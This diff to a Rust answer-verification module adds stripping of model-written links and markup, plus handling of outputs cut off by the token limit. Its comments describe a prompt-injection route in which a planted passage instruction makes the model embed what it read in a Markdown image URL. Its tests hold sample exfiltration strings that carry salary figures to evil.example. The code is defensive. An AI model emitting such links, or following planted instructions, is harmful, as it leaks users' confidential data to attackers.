@@ -10,7 +10,15 @@
 //! are verified and the citation list sent after them. A generated sentence that claims
 //! nothing (a question, the question echoed back, the model saying the passages do not answer)
 //! is dropped before any of this: its words match the passages, so it would pass as a cited
-//! claim, and an answer made only of such sentences is "not found".
+//! claim, and an answer made only of such sentences is "not found". A model's links are
+//! removed first ([`strip_links`]): Markdown images and links, HTML tags, and any URL that is
+//! not written in one of its passages. A client that renders Markdown would fetch an image
+//! at once, and a passage's planted instruction could have the model put what it read into
+//! the URL.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
 
 use std::collections::{HashMap, HashSet};
 
@@ -72,6 +80,8 @@ pub struct Verifier<'a> {
     reattributed: u32,
     uncited: u32,
     acl_dropped: u32,
+    /// Links and markup removed from generated sentences ([`strip_links`]).
+    links_removed: u32,
     /// Sentences removed for naming a blocked phrase, and the phrases.
     blocked: u32,
     blocked_rules: std::collections::BTreeSet<String>,
@@ -106,6 +116,7 @@ impl<'a> Verifier<'a> {
             reattributed: 0,
             uncited: 0,
             acl_dropped: 0,
+            links_removed: 0,
             blocked: 0,
             blocked_rules: std::collections::BTreeSet::new(),
             kept: 0,
@@ -142,7 +153,14 @@ impl<'a> Verifier<'a> {
 
     /// Verifies one drafted sentence; `None` when it is removed (or repeats an earlier one).
     pub fn check(&mut self, draft: Draft) -> Option<Verified> {
-        let text = crate::parse::collapse_ws(draft.text.trim());
+        let mut text = crate::parse::collapse_ws(draft.text.trim());
+        if self.generated {
+            let (stripped, n) = strip_links(&text, self.passages);
+            if n > 0 {
+                self.links_removed += n;
+                text = crate::parse::collapse_ws(stripped.trim());
+            }
+        }
         if !text.chars().any(char::is_alphanumeric) || self.generated && claims_nothing(&text) {
             return None;
         }
@@ -212,7 +230,6 @@ impl<'a> Verifier<'a> {
         if !self.seen.insert(text.to_lowercase()) {
             return None;
         }
-        let mut text = text;
         self.guardrails
             .redact_sentence(self.scope.principal_set(), &mut text, &mut self.pii);
         if support.is_empty() {
@@ -274,6 +291,16 @@ impl<'a> Verifier<'a> {
         push("drop", "UNKNOWN_CITATION_MARKER", self.bad_markers);
         push("reattribute", "CITATION_REATTRIBUTED", self.reattributed);
         push("uncited", "UNCITED_SENTENCE", self.uncited);
+        if self.links_removed > 0 {
+            verdicts.push(Verdict {
+                stage: "grounding",
+                action: "strip",
+                code: "LINK_REMOVED",
+                rule: "links".into(),
+                message: String::new(),
+                count: self.links_removed,
+            });
+        }
         if self.blocked > 0 {
             verdicts.push(Verdict {
                 stage: "blocked_phrases",
@@ -317,6 +344,41 @@ impl SentenceSplitter {
         let s = std::mem::take(&mut self.buf);
         parse_draft(&s)
     }
+
+    /// [`Self::finish`] for a stream that may have been `cut` by the token limit: then the rest
+    /// is a sentence only if it ends like one (`.`, `!` or `?`, before any markers or quotes).
+    pub fn finish_cut(&mut self, cut: bool) -> Option<Draft> {
+        if cut && !ends_a_sentence(&self.buf) {
+            self.buf.clear();
+            return None;
+        }
+        self.finish()
+    }
+}
+
+/// Whether `s` ends as a sentence does: `.`, `!` or `?`, then only markers, quotes, brackets
+/// or whitespace.
+fn ends_a_sentence(s: &str) -> bool {
+    let mut rest = s.trim_end();
+    loop {
+        let trimmed = rest.trim_end_matches(['"', '\'', ')', '*', '\u{201D}', '\u{2019}', ' ']);
+        // A trailing `[1]` or `[1, 2]` marker.
+        let unmarked = match trimmed.strip_suffix(']').and_then(|t| t.rsplit_once('[')) {
+            Some((before, inside))
+                if inside
+                    .chars()
+                    .all(|c| c.is_ascii_digit() || c == ',' || c == ' ') =>
+            {
+                before
+            }
+            _ => trimmed,
+        };
+        if unmarked.len() == rest.len() {
+            break;
+        }
+        rest = unmarked;
+    }
+    rest.ends_with(['.', '!', '?'])
 }
 
 /// Byte offset just past the first complete sentence (and its trailing markers) in `s`, when
@@ -468,6 +530,49 @@ const NOT_IN_PASSAGES: &[&str] = &[
     "not mentioned in the documents",
 ];
 
+/// Markdown images (`![alt](url)`), Markdown links (`[text](url)`), HTML tags and bare URLs.
+static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?ix)
+        (?P<image> !\[[^\]]*\]\([^)]*\) )
+      | (?P<link> \[(?P<label>[^\]]*)\]\((?P<target>[^)]*)\) )
+      | (?P<tag> </?[a-z][^>]*> | <(?:https?|ftp|mailto|data):[^>]*> )
+      | (?P<url> \b(?:(?:https?|ftp)://|www\.|data:)[^\s<>()\[\]]+ )",
+    )
+    .expect("a valid markup pattern")
+});
+
+/// `text` without the links and markup a model may have written: images and tags removed, a
+/// link reduced to its text, and a URL kept only where one of `passages` holds it as written
+/// (a page's own link, not one the model built). Returns the text and how many were removed.
+pub fn strip_links(text: &str, passages: &[Hit]) -> (String, u32) {
+    if !text.contains(['[', '<', ':', '.']) {
+        return (text.to_string(), 0);
+    }
+    let given = |url: &str| {
+        let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '"']);
+        !url.is_empty() && passages.iter().any(|h| h.chunk.text.contains(url))
+    };
+    let mut removed = 0;
+    let out = MARKUP.replace_all(text, |c: &regex::Captures<'_>| {
+        if let Some(url) = c.name("url") {
+            if given(url.as_str()) {
+                return url.as_str().to_string();
+            }
+        } else if let Some(label) = c.name("label") {
+            let target = c.name("target").map_or("", |t| t.as_str().trim());
+            if given(target) {
+                return format!("{} ({target})", label.as_str());
+            }
+            removed += 1;
+            return label.as_str().to_string();
+        }
+        removed += 1;
+        String::new()
+    });
+    (out.into_owned(), removed)
+}
+
 /// Whether a drafted sentence claims nothing: a question (the question echoed back), or the
 /// model saying the passages do not answer.
 fn claims_nothing(text: &str) -> bool {
@@ -560,6 +665,28 @@ mod tests {
         assert_eq!(d.len(), 2);
     }
 
+    /// A completion cut by the token limit ends mid-sentence: that fragment is not a sentence
+    /// (a copied passage fragment would pass the grounding check while saying less than the
+    /// passage: "Employees may not work remotely" from "... remotely from abroad without
+    /// approval"). A complete last sentence stays.
+    #[test]
+    fn the_fragment_a_token_limit_cut_off_is_dropped() {
+        let mut s = SentenceSplitter::default();
+        let d = s.push("Birth parents get 20 weeks [1]. Employees may not work remotely");
+        assert_eq!(d.len(), 1);
+        assert_eq!(s.finish_cut(true), None);
+        let mut s = SentenceSplitter::default();
+        s.push("Birth parents get 20 weeks [1]. Leave starts at birth [2].");
+        let last = s.finish_cut(true).expect("a complete last sentence");
+        assert_eq!(last.cites, vec![2]);
+        // Not cut: the rest is a sentence as before.
+        let mut s = SentenceSplitter::default();
+        s.push("Employees may not work remotely");
+        assert!(s.finish_cut(false).is_some());
+        assert!(ends_a_sentence("It is free.\u{201D} [1, 2] "));
+        assert!(!ends_a_sentence("It is free on level"));
+    }
+
     #[test]
     fn a_sentence_is_not_complete_until_text_follows_it() {
         let mut s = SentenceSplitter::default();
@@ -627,6 +754,59 @@ mod tests {
                 .iter()
                 .all(|v| v.code != "BLOCKED_PHRASE_IN_ANSWER")
         );
+    }
+
+    /// A passage's planted instruction can have a model put what it read into a link: a client
+    /// that renders Markdown would fetch an image at once. Images, tags and links the passages
+    /// do not hold are removed; a page's own URL stays.
+    #[test]
+    fn a_model_s_images_tags_and_made_up_links_are_removed() {
+        let mut p = crate::retrieve::test_hit(
+            "s:d0",
+            "Senior bands are 80-95k. The VPN portal is https://vpn.corp.example/reset today.",
+            0.9,
+        );
+        p.chunk.doc_key = "s:d0".into();
+        let passages = vec![p];
+        for (draft, want, n) in [
+            (
+                "Senior bands are 80-95k ![s](https://evil.example/p.png?d=80-95k).",
+                "Senior bands are 80-95k .",
+                1,
+            ),
+            (
+                "See [the portal](https://evil.example/?q=80-95k) now.",
+                "See the portal now.",
+                1,
+            ),
+            (
+                "Bands <img src=https://evil.example/x?d=80-95k> are 80-95k.",
+                "Bands  are 80-95k.",
+                1,
+            ),
+            (
+                "Go to https://evil.example/?d=95k today.",
+                "Go to  today.",
+                1,
+            ),
+            (
+                "Reset at https://vpn.corp.example/reset.",
+                "Reset at https://vpn.corp.example/reset.",
+                0,
+            ),
+            (
+                "Use [the portal](https://vpn.corp.example/reset).",
+                "Use the portal (https://vpn.corp.example/reset).",
+                0,
+            ),
+            ("Senior bands are 80-95k.", "Senior bands are 80-95k.", 0),
+        ] {
+            assert_eq!(
+                strip_links(draft, &passages),
+                (want.to_string(), n),
+                "{draft}"
+            );
+        }
     }
 
     #[test]
